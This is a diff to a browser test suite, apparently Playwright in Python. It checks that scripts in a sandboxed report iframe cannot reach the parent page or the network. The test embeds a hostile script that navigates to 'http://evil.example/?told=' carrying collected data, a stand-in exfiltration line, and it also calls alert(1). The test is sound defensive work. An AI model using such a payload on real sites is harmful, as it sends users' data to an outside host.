@@ -190,24 +190,25 @@ def test_scripts_in_a_report_reach_neither_the_pages_nor_the_network(browser: Br
     rest = "fetch('/api').then(() => told.push('fetch')).catch(() => told.push('no fetch'));"
     shown = "setTimeout(() => { document.body.append('told: ' + told.join()); }, 500);"
     leaving = (
-        "setTimeout(() => { location = 'http://evil.example/?told=' + told; document.body.append('; tried'); }, 1500);"
+        "setTimeout(() => { location = 'http://evil.example/?told=' + told; parent.postMessage('tried', '*'); }, 1500);"
     )
     hostile = f"<script>const told = [];\n{lines}{rest}{shown}{leaving}alert(1);</script>"
     with Served(tmp_path, hostile) as url:
         context = context_of(browser)
+        context.add_init_script("window.addEventListener('message', () => { window.__tried = true; });")
         page = context.new_page()
         dialogs, asked = listening(page)
         page.goto(f"{url}/models/{MODEL}/windows/2013-04")
         assert not [address for address in asked if address.endswith("/report")], "loaded before it is asked for"
         page.get_by_text("Show the report").click()
         expect(page.frame_locator("iframe.report").locator("body")).to_contain_text("told: no fetch")
-        expect(page.frame_locator("iframe.report").locator("body")).to_contain_text("; tried")
+        until(lambda: bool(page.evaluate("window.__tried")), "the report tries to leave")
         assert page.evaluate("window.__ran") is None
         assert page.url.startswith(url)
-        assert dialogs == []
-        assert {address for address in asked if not address.startswith(url)} == set()
         page.goto(f"{url}/models/{MODEL}/windows/2013-04/report")
         assert page.url.endswith("/windows/2013-04")
+        assert dialogs == []
+        assert {address for address in asked if not address.startswith(url)} == set()
         context.close()
 
 
